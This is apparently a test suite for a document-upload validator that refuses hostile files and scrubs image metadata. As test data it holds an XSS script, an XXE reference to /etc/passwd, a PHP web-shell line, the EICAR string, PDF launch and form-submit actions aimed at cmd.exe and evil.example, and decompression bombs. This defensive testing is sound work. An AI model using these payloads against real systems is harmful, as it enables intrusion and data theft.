import { PDFDocument } from "pdf-lib"
import sharp from "sharp"
import { describe, expect, test } from "vitest"
import { maxPages, maxPaperBytes } from "#src/documents/paper.ts"
import { readPaper } from "#src/documents/read-paper.ts"
import { readPapers } from "#src/documents/read-papers.ts"
import { animation, photo as plainPicture } from "../products/sent-picture.ts"
import * as papers from "./papers.ts"

const { photo, pdf } = papers
const jpeg = await photo().jpeg().toBuffer()
const png = await photo().png().toBuffer()
const plain = await pdf()
const bomb = await sharp({ create: { width: 12_000, height: 12_000, channels: 3, background: "#fff" } })
  .png({ palette: true, colours: 2 })
  .toBuffer()
// What every HEIC file of a telephone begins with; the picture library has no decoder for the rest.
const heic = Buffer.concat([
  Buffer.from([0, 0, 0, 24]),
  Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1"),
  Buffer.alloc(2000),
])

const bombPdf = papers.bombPdf(600)

const hostile: [string, Uint8Array, string][] = [
  ["nothing at all", new Uint8Array(), "paper_empty"],
  ["more than 10 MB", Buffer.alloc(maxPaperBytes + 1), "paper_too_large"],
  ["11 MB that begin as a photo", Buffer.concat([jpeg, Buffer.alloc(11 * 1024 * 1024)]), "paper_too_large"],
  ["a text", Buffer.from("bonjour"), "paper_type"],
  ["the test virus", Buffer.from(papers.eicar), "paper_type"],
  ["a page", Buffer.from("<!doctype html><script>alert(1)</script>"), "paper_type"],
  ["a drawing in SVG", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'), "paper_type"],
  [
    "an XML that names others",
    Buffer.from('<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'),
    "paper_type",
  ],
  ["a program", Buffer.from("MZ\u0090\0".padEnd(4000, "\0"), "latin1"), "paper_type"],
  ["a program of Linux", Buffer.from("\u007fELF".padEnd(4000, "\0"), "latin1"), "paper_type"],
  ["an archive", Buffer.from("PK\u0003\u0004".padEnd(4000, "\0"), "latin1"), "paper_type"],
  ["a TIFF", await photo().tiff().toBuffer(), "paper_type"],
  ["a GIF", await photo(600, 400).gif().toBuffer(), "paper_animated"],
  ["an animation", await animation(), "paper_animated"],
  ["an AVIF", await photo(600, 400).avif().toBuffer(), "paper_type"],
  ["a photo in HEIC", heic, "paper_heic"],
  ["a bomb of pixels", bomb, "paper_too_many_pixels"],
  ["a stamp", await photo(120, 80).jpeg().toBuffer(), "paper_too_small"],
  ["half a JPEG", jpeg.subarray(0, jpeg.length / 2), "paper_broken"],
  ["half a PNG", png.subarray(0, png.length / 2), "paper_broken"],
  ["a JPEG's first bytes before zeros", Buffer.concat([jpeg.subarray(0, 200), Buffer.alloc(5000)]), "paper_broken"],
  ["a PNG's first bytes before a page", Buffer.concat([png.subarray(0, 8), Buffer.from("<html>")]), "paper_type"],
  ["an encrypted PDF", papers.encrypted(), "pdf_encrypted"],
  ["a PDF with encrypted streams", papers.encryptedStreams(), "pdf_encrypted"],
  ["a PDF with a script", await pdf((document) => document.addJavaScript("a", "app.alert(1)")), "pdf_active"],
  ["a PDF with a script in disguise", papers.disguisedScript(), "pdf_active"],
  ["a PDF that starts a program", await papers.opening({ S: "/Launch", F: "cmd.exe" }), "pdf_active"],
  ["a PDF that sends a form", await papers.opening({ S: "/SubmitForm", F: "https://evil.example" }), "pdf_active"],
  ["a PDF with a form that is a program", await papers.withForm(), "pdf_active"],
  ["a PDF with a file attached", await papers.withAttachment(), "pdf_attachments"],
  ["a PDF of too many pages", await pdf(undefined, maxPages + 1), "pdf_too_many_pages"],
  [
    "a PDF without a page",
    papers.rawPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
    "pdf_broken",
  ],
  ["half a PDF", plain.subarray(0, plain.length / 2), "pdf_broken"],
  ["a PDF's first line before a page", Buffer.from("%PDF-1.7\n<html><script>alert(1)</script>"), "pdf_broken"],
  ["a page before a PDF", Buffer.concat([Buffer.from("<html></html>\n"), plain]), "paper_type"],
  ["a PDF that is also an archive", Buffer.concat([plain, papers.endOfArchive]), "pdf_hides_archive"],
  ["a PDF of a hundred thousand brackets", papers.deepPdf(100_000), "pdf_broken"],
]

describe("a sent paper", () => {
  test.for(hostile)("is refused when it is %s", { timeout: 30_000 }, async ([, bytes, reason]) => {
    expect(await readPaper(Buffer.from(bytes))).toEqual({ ok: false, reason })
  })

  test("that grows without end when it is opened is given up at once, and others follow", { retry: 1 }, async () => {
    const startedAt = performance.now()
    const [bombed, next] = await Promise.all([readPaper(bombPdf), readPaper(plain)])

    expect(bombed).toEqual({ ok: false, reason: "pdf_broken" })
    expect(next.ok).toBe(true)
    expect(performance.now() - startedAt).toBeLessThan(6000)
  })

  test("is drawn anew, upright, with nothing of the camera's", async () => {
    const rotated = await photo()
      .withExif({ IFD0: { Copyright: "secret" }, IFD3: { GPSLatitudeRef: "N" } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer()
    const read = await readPaper(rotated)

    expect(read).toMatchObject({ ok: true, value: { mediaType: "image/jpeg", width: 800, height: 1200 } })
    if (!read.ok) return
    const { exif, icc, xmp, orientation } = await sharp(read.value.bytes).metadata()
    expect([exif, icc, xmp, orientation]).toEqual([undefined, undefined, undefined, undefined])
    expect(read.value.bytes.includes("secret")).toBe(false)
  })

  test("is a JPEG whatever picture it was, and no larger than can be read", async () => {
    for (const bytes of [png, await plainPicture(4000, 2400).webp().toBuffer()]) {
      const read = await readPaper(bytes)
      expect(read).toMatchObject({ ok: true, value: { mediaType: "image/jpeg" } })
      if (read.ok) expect(Math.max(read.value.width ?? 0, read.value.height ?? 0)).toBeLessThanOrEqual(3200)
    }
  })

  test.for([
    ["a page", "<script>alert(1)</script>"],
    ["the test virus", papers.eicar],
    ["PHP", "<?php system($_GET[0]);"],
    ["a PDF", plain.toString("latin1")],
    ["an archive", papers.endOfArchive.toString("latin1")],
  ])("that is a photo and %s as well comes out a photo alone", async ([, tail = ""]) => {
    const read = await readPaper(Buffer.concat([jpeg, Buffer.from(tail, "latin1")]))

    expect(read.ok).toBe(true)
    if (read.ok) expect(read.value.bytes.includes(Buffer.from(tail, "latin1"))).toBe(false)
  })

  test("may be a PDF, with a link and a plain place to open at", async () => {
    const read = await readPaper(await papers.opening({ S: "/GoTo", D: "debut" }))

    expect(read).toMatchObject({ ok: true, value: { mediaType: "application/pdf", pages: 1 } })
  })
})

describe("several photos of one paper", () => {
  const file = (bytes: Buffer | null, name = "page.jpg") => ({ name, open: async () => bytes })

  test("become one PDF, a page each, that lies as the photo does", async () => {
    const wide = await photo(1600, 900).jpeg().toBuffer()
    const tall = await photo(900, 1600).jpeg().toBuffer()
    const read = await readPapers([file(wide, "recto.jpg"), file(tall)])

    expect(read).toMatchObject({ ok: true, name: "recto.jpg", paper: { mediaType: "application/pdf", pages: 2 } })
    if (!read.ok) return
    const bound = await PDFDocument.load(read.paper.bytes)
    expect(bound.getPages().map((page) => page.getWidth() > page.getHeight())).toEqual([true, false])
    expect((await readPaper(read.paper.bytes)).ok).toBe(true)
  })

  test.for([
    ["none", [], "no_paper"],
    ["a PDF among them", [file(jpeg), file(plain, "b.pdf")], "several_pdfs"],
    ["more than ten", Array.from({ length: 11 }, () => file(jpeg)), "too_many_files"],
    ["one that was cut off at 10 MB", [file(jpeg), file(null)], "paper_too_large"],
    ["one that is no photo", [file(jpeg), file(Buffer.from("x"), "x.jpg")], "paper_type"],
  ] as const)("are refused when there is %s", async ([, files, reason]) => {
    expect(await readPapers(files)).toMatchObject({ ok: false, reason })
  })
})
